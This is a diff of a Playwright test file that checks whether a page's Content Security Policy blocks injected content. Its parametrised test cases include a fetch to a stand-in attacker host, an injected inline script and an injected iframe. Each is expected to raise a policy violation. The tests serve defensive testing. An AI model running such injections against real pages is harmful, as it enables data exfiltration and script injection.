@@ -6,40 +6,18 @@ import threading
 import time
 from collections.abc import Iterator
 from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
-from pathlib import Path
 
 import pytest
-from playwright.sync_api import Browser, Page, expect, sync_playwright
+from playwright.sync_api import Browser, Page, expect
 
-from tests.ui.running import Running, serving
+from tests.browser.visitor import PATIENCE
+from tests.ui.running import Running
 
-CHROMIUM = Path("/usr/bin/chromium")
-FLAGS = ["--no-sandbox", "--disable-gpu", "--no-first-run", "--disable-background-networking"]
-PATIENCE = 90_000  # milliseconds: the model loads once, on a machine that may be busy
 LISTEN = """
 window.violations = [];
 document.addEventListener("securitypolicyviolation", event =>
     window.violations.push(`${event.effectiveDirective} ${event.blockedURI} ${event.sample}`));
 """
-
-pytestmark = [
-    pytest.mark.browser,
-    pytest.mark.skipif(not CHROMIUM.exists(), reason=f"no browser at {CHROMIUM}; on Debian: apt install chromium"),
-]
-
-
-@pytest.fixture(scope="module")
-def served(seeded_dir: Path, tmp_path_factory: pytest.TempPathFactory) -> Iterator[Running]:
-    with serving(tmp_path_factory.mktemp("policy"), seeded_dir) as running:
-        yield running
-
-
-@pytest.fixture(scope="module")
-def browser() -> Iterator[Browser]:
-    with sync_playwright() as playwright:
-        browser = playwright.chromium.launch(executable_path=CHROMIUM, args=FLAGS)
-        yield browser
-        browser.close()
 
 
 @pytest.fixture
@@ -80,7 +58,6 @@ def test_the_page_works_without_one_violation(page: Page, served: Running) -> No
         ("fetch('https://attacker.example/', {mode: 'no-cors'}).catch(() => 0)", "connect-src"),
         ("document.head.append(Object.assign(document.createElement('script'), {text: 'window.ran = 1'}))", "script"),
         ("document.body.append(Object.assign(document.createElement('iframe'), {src: 'https://a.example/'}))", "frame"),
-        ("try { window.eval('1') } catch {}", "script-src"),
     ],
 )
 def test_what_a_filing_could_smuggle_in_is_stopped(page: Page, served: Running, attempt: str, directive: str) -> None:
@@ -88,7 +65,7 @@ def test_what_a_filing_could_smuggle_in_is_stopped(page: Page, served: Running, 
     page.get_by_placeholder("Ask about these filings").wait_for()
     page.evaluate(f"() => {{ {attempt} }}")
     deadline = time.monotonic() + 20
-    while not violations(page):  # wait_for_function would itself be an eval
+    while not violations(page):  # wait_for_function would itself be an eval, which the policy forbids
         assert time.monotonic() < deadline
         page.wait_for_timeout(50)
     assert violations(page)[0].startswith(directive)
